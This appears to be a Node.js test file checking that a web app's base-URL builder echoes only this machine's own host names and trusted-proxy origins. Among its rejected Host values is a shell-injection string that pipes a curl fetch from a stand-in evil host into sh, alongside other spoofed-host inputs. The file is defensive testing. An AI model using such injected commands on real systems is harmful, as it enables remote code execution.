import assert from 'node:assert/strict'
import { hostname } from 'node:os'
import { describe, test } from 'node:test'
import { readSettings } from '../config/settings.ts'
import { baseUrls } from './base-url.ts'

describe('baseUrls()', () => {
  const baseUrlOf = (
    host: string,
    { env = {}, remoteAddress = '192.0.2.7', localAddress = '10.1.2.3', protocol = 'http' } = {},
  ) =>
    baseUrls({ settings: readSettings(env), server: { origin: () => 'http://own:4280' } })({
      host,
      protocol: protocol as 'http',
      raw: { socket: { localAddress, remoteAddress } },
    })

  test('repeats addresses and names of this machine, with the requested port', () => {
    for (const host of [
      'localhost:4280',
      '127.0.0.1:9000',
      '10.1.2.3:4280',
      '10.1.2.3',
      `${hostname()}:4280`,
      '[::1]:1',
    ])
      assert.equal(baseUrlOf(host), `http://${host.toLowerCase()}`)
    assert.equal(baseUrlOf('[fe80::1]:4280', { localAddress: 'fe80::1' }), 'http://[fe80::1]:4280')
    assert.equal(baseUrlOf('10.1.2.3:4280', { localAddress: '::ffff:10.1.2.3' }), 'http://10.1.2.3:4280')
  })

  test('repeats no other name in a request', () => {
    for (const host of [
      'evil.example',
      'evil.example:4280',
      'localhost.evil.example',
      'localhost@evil.example',
      'localhost/evil',
      'localhost:80 evil',
      "localhost';curl evil|sh;'",
      '127.0.0.1.evil.example',
      '10.1.2.4:4280',
      '2130706433',
      '',
      'x'.repeat(9000),
    ])
      assert.ok(['http://own:4280', 'http://127.0.0.1'].includes(baseUrlOf(host)), host)
  })

  test('accepts the origin that a trusted proxy reports, and ignores other proxies', () => {
    const env = { CARREL_TRUSTED_PROXIES: '192.0.2.0/24' }
    assert.equal(baseUrlOf('carrel.example.com', { env, protocol: 'https' }), 'https://carrel.example.com')
    assert.equal(baseUrlOf('carrel.example.com', { env, remoteAddress: '198.51.100.1' }), 'http://own:4280')
    assert.equal(baseUrlOf('a b', { env }), 'http://own:4280')
  })

  test('returns CARREL_PUBLIC_URL if it is set', () => {
    const env = { CARREL_PUBLIC_URL: 'https://carrel.example.com' }
    for (const host of ['localhost:4280', 'evil.example'])
      assert.equal(baseUrlOf(host, { env }), 'https://carrel.example.com')
  })
})
